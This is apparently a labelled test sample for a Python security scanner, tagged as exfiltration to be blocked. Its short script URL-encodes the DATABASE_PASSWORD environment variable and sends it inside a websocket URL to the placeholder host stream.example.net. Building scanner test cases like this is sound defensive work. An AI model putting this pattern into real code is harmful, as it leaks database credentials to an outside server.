# pyguard-corpus: verdict=block category=exfil rules=PG601
# what: puts a database password from the environment into a websocket URL built with str.format and percent-formatting
import asyncio
import os
import urllib.parse

import websockets

template = "wss://%s/live?session={}"
endpoint = template % "stream.example.net"


async def report():
    password = urllib.parse.quote(os.environ["DATABASE_PASSWORD"])
    async with websockets.connect(endpoint.format(password)) as ws:
        await ws.send("hello")


asyncio.run(report())
